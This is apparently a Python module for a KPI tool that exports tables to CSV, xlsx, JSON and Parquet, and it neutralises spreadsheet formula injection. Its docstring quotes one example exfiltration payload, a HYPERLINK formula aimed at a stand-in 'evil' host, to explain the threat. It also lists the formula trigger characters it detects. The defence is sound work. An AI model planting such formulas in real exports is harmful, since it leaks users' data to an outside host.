"""Tables out of zhizao: one writer for CSV, Excel (xlsx), JSON and Parquet, safe to open in a spreadsheet.

Every table a person downloads or a command writes -- ``zhizao kpi --format csv|xlsx|json|parquet``, the REST
API's ``?format=csv|xlsx`` answers, the dashboard's downloads -- goes through :func:`write_table` (or
:func:`to_bytes`), so the rules below hold everywhere:

- **Formula injection is neutralised in spreadsheet formats.** Ids, reasons, names and every other text come
  from tenants' data. A spreadsheet program reads a CSV cell that begins with ``=``, ``+``, ``-``, ``@``, a
  tab or a carriage return (or their full-width forms ``＝＋－＠``) as a formula (OWASP, "CSV injection"):
  ``=HYPERLINK("http://evil/?"&A1)`` would run when the file is opened. In CSV such a text cell is written
  with a leading apostrophe (``'=1+1``), which spreadsheet programs show as text. In xlsx the cell is
  written as a text cell (never a formula) with Excel's "quote prefix" style, so it keeps its exact value
  and stays text when edited. Numbers are numbers (``-5`` stays a number); only text cells are changed.
- JSON and Parquet are for programs: values are written unchanged (JSON: one array of row objects, time
  stamps ISO 8601, NaN as null).
- CSV follows RFC 4180 (CRLF line ends, texts holding a line break or a comma quoted), UTF-8 (with a byte order
  mark on request, for Excel).
- Time stamps with a zone are written as ISO 8601 text in CSV and xlsx (Excel has no zoned time stamps);
  missing values are empty cells.

Example
-------
>>> import pandas as pd
>>> from zhizao.export import to_bytes
>>> to_bytes(pd.DataFrame({"reason": ["=1+1", "jam"], "seconds": [-5.0, 60.0]}), "csv").decode()
"reason,seconds\\r\\n'=1+1,-5.0\\r\\njam,60.0\\r\\n"
"""

from __future__ import annotations

import io
import json
import math
from pathlib import Path
from typing import BinaryIO

import numpy as np
import pandas as pd

from zhizao.errors import InputError
from zhizao.messages import define

#: Formats :func:`write_table` writes, and their media types.
FORMATS = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "json": "application/json",
    "parquet": "application/vnd.apache.parquet",
}
#: First characters that make a spreadsheet program read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

UNKNOWN_FORMAT = define("export.unknown_format", "unknown table format %(format)s; one of %(formats)s")


def is_formula_like(value) -> bool:
    """Whether ``value`` is a text a spreadsheet program would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(value):
    """``value`` with a leading apostrophe if it is formula-like text (CSV's neutralisation); else unchanged."""
    return "'" + value if is_formula_like(value) else value


def _text_columns(df: pd.DataFrame) -> list:
    return [c for c in df.columns if df[c].dtype == object or isinstance(df[c].dtype, pd.StringDtype)]


def _zoned_to_text(df: pd.DataFrame) -> pd.DataFrame:
    """Zoned time stamp columns (and objects) as ISO 8601 text; a shallow copy when anything changes."""
    out = None
    for c in df.columns:
        s = df[c]
        if isinstance(s.dtype, pd.DatetimeTZDtype):
            out = df.copy() if out is None else out
            out[c] = [None if pd.isna(v) else v.isoformat() for v in s]
        elif s.dtype == object and s.map(lambda v: isinstance(v, pd.Timestamp) and v.tzinfo is not None).any():
            out = df.copy() if out is None else out
            out[c] = [v.isoformat() if isinstance(v, pd.Timestamp) else v for v in s]
    return df if out is None else out


def neutralised(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose formula-like text cells begin with an apostrophe (for CSV)."""
    cols = [c for c in _text_columns(df) if df[c].map(is_formula_like).any()]
    if not cols and not any(is_formula_like(c) for c in df.columns):
        return df
    out = df.copy()
    for c in cols:
        out[c] = out[c].map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    return out


def _csv(df: pd.DataFrame, out: BinaryIO, bom: bool) -> None:
    # RFC 4180 line ends: a text holding a carriage return or a line feed is quoted, never splits a row
    text = neutralised(_zoned_to_text(df)).to_csv(index=False, lineterminator="\r\n")
    out.write((("\ufeff" if bom else "") + text).encode("utf-8"))


def _cell(v):
    if v is None or v is pd.NaT or v is pd.NA:
        return None
    if isinstance(v, float) and math.isnan(v):
        return None
    if isinstance(v, np.generic):
        v = v.item()
        if isinstance(v, float) and math.isnan(v):
            return None
    if isinstance(v, (pd.Timestamp,)) and v.tzinfo is not None:
        return v.isoformat()
    if isinstance(v, pd.Timestamp):
        return v.to_pydatetime()
    if isinstance(v, (list, tuple, dict, set)):
        return json.dumps(v, ensure_ascii=False, default=str)
    return v


def _xlsx(df: pd.DataFrame, out: BinaryIO, sheet: str) -> None:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=sheet[:31] or "Sheet1")

    def text_cell(v):
        c = WriteOnlyCell(ws, value=None)
        c.value = v
        if isinstance(v, str):
            c.data_type = "s"  # a text cell, never a formula, whatever it begins with
            if is_formula_like(v):
                c.quotePrefix = True
        return c

    ws.append([text_cell(str(c)) for c in df.columns])
    data = _zoned_to_text(df)
    for row in data.itertuples(index=False, name=None):
        ws.append([text_cell(_cell(v)) for v in row])
    wb.save(out)


def _json(df: pd.DataFrame, out: BinaryIO) -> None:
    rows = json.loads(df.to_json(orient="records", date_format="iso", default_handler=str))
    out.write((json.dumps(rows, ensure_ascii=False, indent=1) + "\n").encode("utf-8"))


def write_table(df: pd.DataFrame, fmt: str, dest: str | Path | BinaryIO, *, sheet: str = "zhizao",
                bom: bool = False) -> None:
    """Write a table as ``fmt`` to ``dest``.

    Parameters
    ----------
    df : pandas.DataFrame
        The table (its index is not written).
    fmt : {'csv', 'xlsx', 'json', 'parquet'}
    dest : path or binary file
        Where to write.
    sheet : str
        Name of the xlsx sheet (at most 31 characters).
    bom : bool
        Begin a CSV with a UTF-8 byte order mark (so that Excel reads Chinese text right).

    Raises
    ------
    zhizao.errors.InputError
        An unknown format.

    Notes
    -----
    CSV and xlsx neutralise formula-like text cells (see the module docstring); JSON and Parquet keep every
    value as it is.
    """
    if fmt not in FORMATS:
        raise InputError(UNKNOWN_FORMAT, format=repr(fmt), formats=list(FORMATS))
    if isinstance(dest, (str, Path)):
        with open(dest, "wb") as f:
            write_table(df, fmt, f, sheet=sheet, bom=bom)
        return
    if fmt == "csv":
        _csv(df, dest, bom)
    elif fmt == "xlsx":
        _xlsx(df, dest, sheet)
    elif fmt == "json":
        _json(df, dest)
    else:
        df.to_parquet(dest, index=False)


def to_bytes(df: pd.DataFrame, fmt: str, **kw) -> bytes:
    """The bytes :func:`write_table` writes (for HTTP answers and downloads)."""
    buf = io.BytesIO()
    write_table(df, fmt, buf, **kw)
    return buf.getvalue()


def media_type(fmt: str) -> str:
    """The media type of a format of :data:`FORMATS`."""
    if fmt not in FORMATS:
        raise InputError(UNKNOWN_FORMAT, format=repr(fmt), formats=list(FORMATS))
    return FORMATS[fmt]


__all__ = ["FORMATS", "FORMULA_STARTS", "write_table", "to_bytes", "media_type", "neutralise", "neutralised",
           "is_formula_like"]
